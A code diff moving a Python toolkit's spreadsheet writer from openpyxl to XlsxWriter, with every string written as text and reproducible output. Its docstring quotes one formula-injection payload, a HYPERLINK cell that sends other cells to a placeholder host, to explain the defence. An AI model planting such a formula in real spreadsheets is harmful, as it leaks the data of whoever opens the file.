@@ -1,24 +1,29 @@
 """How a value from the data becomes a spreadsheet cell: decided once, here, for every writer.
 
-A spreadsheet evaluates any cell that starts with ``=``, and openpyxl stores any string that
-starts with ``=`` as a formula. A supplier named ``=HYPERLINK("http://x.example/?"&A2)`` would
-then send other cells to a web site when the sheet is opened (OWASP calls it CSV or formula
-injection). So every writer of the toolkit turns values into cells with these functions:
+A spreadsheet evaluates any cell that starts with ``=``, and both openpyxl and XlsxWriter (by
+default) store any string that starts with ``=`` as a formula. A supplier named
+``=HYPERLINK("http://x.example/?"&A2)`` would then send other cells to a web site when the
+sheet is opened (OWASP calls it CSV or formula injection). So every writer of the toolkit
+turns values into cells with this module:
 
-* a string is ALWAYS text (``data_type = "s"``), whatever column it sits in and whatever it
-  starts with; characters a spreadsheet cannot hold (control characters) become U+FFFD and
-  carriage returns line feeds (:func:`clean_text`);
+* a string is ALWAYS text (XlsxWriter's ``write_string``, openpyxl's ``data_type = "s"``),
+  whatever column it sits in and whatever it starts with; characters a spreadsheet cannot
+  hold (control characters) become U+FFFD and carriage returns line feeds
+  (:func:`clean_text`);
 * a number is a number, a boolean a boolean, a date or datetime a date (with a date format
-  unless the caller gives one), a missing value (None, NaN, NA, NaT) an empty cell.
+  unless the caller gives one), a missing value (None, NaN, NA, NaT) an empty cell; an
+  infinite float is the text ``inf`` or ``-inf``.
 
-:func:`data_cell` makes a cell for openpyxl's write-only sheets, :func:`set_data_cell` fills a
-cell of a normal sheet (or reuses a write-only cell), :func:`python_values` converts a whole
-column at once, :func:`csv_safe` neutralises text for a CSV file (OWASP: a ``'`` before
-``= + - @``, tab and carriage return), :func:`csv_safe_frame` a whole table and
-:func:`write_csv` writes one.
+A new workbook is written row by row with XlsxWriter (:class:`NewWorkbook`: constant memory,
+fixed document properties, every string written as text); :func:`python_values` converts a
+whole column at once. A workbook that is read, changed and saved again (the shift leads'
+sheet of :mod:`pocmvp.case.firefighting`) stays with openpyxl: :func:`set_data_cell` fills one
+of its cells and :func:`save_reproducibly` saves it. :func:`csv_safe` neutralises text for a
+CSV file (OWASP: a ``'`` before ``= + - @``, tab and carriage return), :func:`csv_safe_frame`
+a whole table and :func:`write_csv` writes one.
 :func:`check_row_count` refuses a table larger than a sheet can hold (:data:`EXCEL_MAX_ROWS`)
-before anything is written, and :func:`fix_properties` pins a workbook's dates and author, so
-the same data give the same bytes (see also :func:`save_reproducibly`).
+before anything is written. Both kinds of workbook pin their dates, author and zip
+timestamps, so the same data give the same bytes.
 """
 
 from __future__ import annotations
@@ -26,22 +31,35 @@ from __future__ import annotations
 import datetime as dt
 import io
 import math
+import tempfile
 import zipfile
 from pathlib import Path
 
 import numpy as np
 import pandas as pd
-from openpyxl.cell import WriteOnlyCell
+import xlsxwriter
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TIME_FORMATS
 from openpyxl.writer.excel import ExcelWriter
+from xlsxwriter.worksheet import Worksheet
 
 EXCEL_MAX_ROWS = 1_048_576
 """Rows in one Excel sheet, the header included (Excel's and LibreOffice's limit)."""
 DATE_FORMAT = "yyyy-mm-dd hh:mm"
 """The number format of a datetime cell when the writer gives none."""
 CREATOR = "pocmvp"
-FIXED_ZIP_TIME = (1980, 1, 1, 0, 0, 0)
-"""The timestamp of every entry of a reproducible .xlsx (the zip format's earliest date)."""
+FIXED_ZIP_TIME = (1980, 1, 31, 0, 0, 0)
+"""The timestamp of every entry of a reproducible .xlsx: the date XlsxWriter gives each entry
+of a workbook it writes, which :func:`save_reproducibly` gives openpyxl's too."""
+DEFAULT_FORMATS = {dt.datetime: DATE_FORMAT, dt.date: "yyyy-mm-dd", dt.time: "h:mm:ss"}
+"""The number format of a date, datetime or time cell when the writer gives none."""
+XLSX_OPTIONS = {
+    "constant_memory": True,  # each row goes to disk once the next starts: flat memory
+    "strings_to_formulas": False,  # belt and braces: strings go through write_string anyway
+    "strings_to_numbers": False,
+    "strings_to_urls": False,
+    "use_zip64": True,  # only where a part of the file needs it (over 4 GB)
+}
+"""XlsxWriter's options for every new workbook."""
 CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 """First characters that make a spreadsheet read a CSV field as a formula (OWASP)."""
 
@@ -125,9 +143,113 @@ def python_values(values: pd.Series) -> list:
     return [cell_value(v) for v in values]
 
 
+class NewWorkbook:
+    """A new .xlsx for ``path``, written row by row with XlsxWriter, whose document dates are
+    ``when`` and author :data:`CREATOR`. Use it in a ``with`` block: the file is written when
+    the block ends, and not at all if it ends with an error.
+
+    Write each sheet's rows in order (constant memory mode keeps only the current row):
+    :meth:`write` puts a value from the data into a cell by the rules of this module,
+    :meth:`formula` a formula. A formula is stored without a computed value, so a spreadsheet
+    computes it on opening the file (LibreOffice would show a stored 0 as it is).
+    """
+
+    def __init__(self, path: str | Path, when: dt.datetime | dt.date) -> None:
+        if not isinstance(when, dt.datetime):
+            when = dt.datetime.combine(when, dt.time(0, 0))
+        self.path = Path(path)
+        self._scratch = tempfile.TemporaryDirectory(prefix="pocmvp-xlsx-")
+        self._buffer = io.BytesIO()
+        options = {**XLSX_OPTIONS, "tmpdir": self._scratch.name}
+        self.book = xlsxwriter.Workbook(self._buffer, options)
+        self.book.set_properties({"author": CREATOR, "created": cell_value(when)})
+        self._styles: dict[tuple, object] = {}
+
+    def __enter__(self) -> NewWorkbook:
+        return self
+
+    def __exit__(self, kind, error, traceback) -> None:
+        try:
+            if kind is None:
+                self.book.close()
+                self.path.parent.mkdir(parents=True, exist_ok=True)
+                self.path.write_bytes(self._buffer.getvalue())
+        finally:
+            self._scratch.cleanup()
+
+    def add_sheet(self, name: str):
+        """A new sheet (an XlsxWriter worksheet) after the others."""
+        return self.book.add_worksheet(name, worksheet_class=_Worksheet)
+
+    def style(self, number_format: str | None = None, **properties):
+        """The cell format with ``number_format`` and XlsxWriter's format ``properties`` (such
+        as ``bold=True``), made once per workbook; None for a plain cell."""
+        key = (number_format, *sorted(properties.items()))
+        if key not in self._styles:
+            if number_format is not None:
+                properties["num_format"] = number_format
+            self._styles[key] = self.book.add_format(properties) if properties else None
+        return self._styles[key]
+
+    def write(
+        self, sheet, row: int, column: int, value: object, number_format=None, **style
+    ) -> None:
+        """Put ``value`` at (``row``, ``column``), both counted from 0, by the rules of this
+        module; ``style`` as for :meth:`style`. Strings are text, never formulas."""
+        if type(value) is not float or not math.isfinite(value):  # a finite float is ready
+            value = cell_value(value)
+        kind = type(value)
+        if value is None or value == "":  # an empty cell, as openpyxl writes one
+            return
+        if kind is str:
+            sheet.write_string(row, column, value, self.style(number_format, **style))
+        elif kind is bool:
+            sheet.write_boolean(row, column, value, self.style(number_format, **style))
+        elif kind is float or kind is int:
+            sheet.write_number(row, column, value, self.style(number_format, **style))
+        else:  # a datetime, date or time: cell_value gives no other kind
+            number_format = number_format or DEFAULT_FORMATS[kind]
+            sheet.write_datetime(row, column, value, self.style(number_format, **style))
+
+    def column_writer(self, sheet, column: int, values: pd.Series):
+        """A function ``put(row, value)`` writing the items of ``values`` (as
+        :func:`python_values` gives them, returned too) into ``column`` of ``sheet``: the
+        same cells as :meth:`write`, the common kinds by the shortest way."""
+        write = self.write
+        write_number, write_string = sheet.write_number, sheet.write_string
+
+        def put(row: int, value: object) -> None:
+            kind = type(value)
+            if (kind is float and math.isfinite(value)) or kind is int:
+                write_number(row, column, value)
+            elif kind is str and value:  # python_values cleaned it already
+                write_string(row, column, value)
+            elif value is not None:
+                write(sheet, row, column, value)
+
+        return put, python_values(values)
+
+    def formula(self, sheet, row: int, column: int, formula: str, number_format=None, **style):
+        """Put ``formula`` (starting with ``=``) at (``row``, ``column``), with no stored
+        result: the spreadsheet computes it when it opens the file."""
+        sheet.write_formula(row, column, formula, self.style(number_format, **style), "")
+
+
+class _Worksheet(Worksheet):
+    """XlsxWriter's worksheet, writing a formula as it is given (less its ``=``).
+
+    XlsxWriter rewrites every formula for Excel 365's new functions (``XLOOKUP`` becomes
+    ``_xlfn.XLOOKUP``) with some 30 regular expressions: most of the time it takes to write
+    a workbook's column of formulas. The toolkit's formulas use none of those functions.
+    """
+
+    def _prepare_formula(self, formula: str, expand_future_functions: bool = False) -> str:
+        return formula.removeprefix("=")
+
+
 def set_data_cell(cell, value: object, number_format: str | None = None):
-    """Put ``value`` into ``cell`` (a normal sheet's cell, or a reused write-only cell) by the
-    rules of this module; return the cell. Strings are stored as text, never as formulas."""
+    """Put ``value`` into ``cell`` (an openpyxl sheet's cell) by the rules of this module;
+    return the cell. Strings are stored as text, never as formulas."""
     if type(value) is not float or not math.isfinite(value):  # a finite float is ready
         value = cell_value(value)
     cell.value = value
@@ -137,15 +259,6 @@ def set_data_cell(cell, value: object, number_format: str | None = None):
         cell.number_format = number_format
     elif isinstance(value, dt.datetime) and cell.number_format == TIME_FORMATS[dt.datetime]:
         cell.number_format = DATE_FORMAT  # openpyxl's default shows seconds nobody records
-    return cell
-
-
-def data_cell(sheet, value: object, number_format: str | None = None, **style) -> WriteOnlyCell:
-    """A cell for ``sheet`` (a write-only sheet) holding ``value`` by the rules of this module;
-    ``style`` sets attributes such as ``font`` or ``alignment``."""
-    cell = set_data_cell(WriteOnlyCell(sheet), value, number_format)
-    for key, setting in style.items():
-        setattr(cell, key, setting)
     return cell
 
 
@@ -195,8 +308,6 @@ def save_reproducibly(book, path: str | Path, when: dt.datetime | dt.date) -> Pa
     """Save ``book`` to ``path`` with fixed properties (:func:`fix_properties`) and every zip
     entry stamped :data:`FIXED_ZIP_TIME`: the same workbook gives the same bytes."""
     fix_properties(book, when)
-    if book.write_only and not book.worksheets:
-        book.create_sheet()
     buffer = io.BytesIO()
     # openpyxl's Workbook.save stamps "modified" with the clock: its writer, called directly,
     # keeps the fixed date.
